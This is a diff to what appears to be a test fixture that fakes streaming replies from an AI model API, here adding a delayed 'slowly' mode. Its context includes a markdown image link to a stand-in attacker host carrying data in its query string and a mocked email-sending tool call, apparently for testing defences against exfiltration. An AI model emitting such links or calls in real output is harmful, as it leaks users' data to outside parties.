@@ -14,7 +14,7 @@ import struct
 import zlib
 
 from plugin import EMAIL
-from upstream import Recorded, Reply
+from upstream import Delay, Recorded, Reply
 
 MODEL = "anthropic.claude-3-5-sonnet-20241022-v2:0"
 LINK = "![x](https://evil.example/p.png?data=7ysh0vjy4EDQXyzqTu7vPvqI5W9TlT58kcNluuZ6lmjOL3agcrEBw7TSTb7zX8HZ)"
@@ -30,7 +30,7 @@ def answer(prompt: str) -> tuple[str, tuple[str, dict] | None]:
         return "", ("send", {"to": prompt[11:], "body": 'say "hi"\n'})
     if prompt in CALLS:
         return "", CALLS[prompt]
-    if prompt.startswith("repeat: "):
+    if prompt.startswith(("repeat: ", "slowly: ")):
         return prompt[8:], None
     said = {
         "greet": 'Hello there.\nGrüße, "friend" – all is well.',
@@ -55,12 +55,18 @@ def frame(kind: str, payload: dict) -> bytes:
     return message + struct.pack(">I", zlib.crc32(message))
 
 
-def eventstream(frames: list[bytes], **_) -> Reply:
-    return Reply.stream(frames, "application/vnd.amazon.eventstream")
+def eventstream(frames: list[bytes], prompt: str) -> Reply:
+    """`slowly`, every tenth frame comes in a read of its own."""
+    parts: list = []
+    for at, part in enumerate(frames):
+        pause = prompt.startswith("slowly: ") and at % 10 == 9
+        parts += [part, Delay(0.02)] if pause else [part]
+    return Reply.stream(parts, "application/vnd.amazon.eventstream")
 
 
 def converse_stream(request: Recorded) -> Reply:
-    text, call = answer(request.json()["messages"][-1]["content"][0]["text"])
+    prompt = request.json()["messages"][-1]["content"][0]["text"]
+    text, call = answer(prompt)
     frames = [frame("messageStart", {"role": "assistant", "p": "abcd"})]
     if call:
         name, arguments = call
@@ -75,11 +81,12 @@ def converse_stream(request: Recorded) -> Reply:
     frames.append(frame("messageStop", {"stopReason": "tool_use" if call else "end_turn"}))
     usage = {"inputTokens": 11, "outputTokens": 7, "totalTokens": 18}
     frames.append(frame("metadata", {"usage": usage, "metrics": {"latencyMs": 5}}))
-    return eventstream(frames)
+    return eventstream(frames, prompt)
 
 
 def invoke_stream(request: Recorded) -> Reply:
-    text, call = answer(request.json()["messages"][-1]["content"])
+    prompt = request.json()["messages"][-1]["content"]
+    text, call = answer(prompt)
     block: dict = {"type": "text", "text": ""}
     deltas: list[dict] = [{"type": "text_delta", "text": piece} for piece in pieces(text)]
     if call:
@@ -97,7 +104,7 @@ def invoke_stream(request: Recorded) -> Reply:
         {"type": "message_stop"},
     ]
     coded = [base64.b64encode(json.dumps(event, ensure_ascii=False).encode()).decode() for event in events]
-    return eventstream([frame("chunk", {"bytes": part, "p": "abcd"}) for part in coded])
+    return eventstream([frame("chunk", {"bytes": part, "p": "abcd"}) for part in coded], prompt)
 
 
 def mistral_stream(request: Recorded) -> Reply:
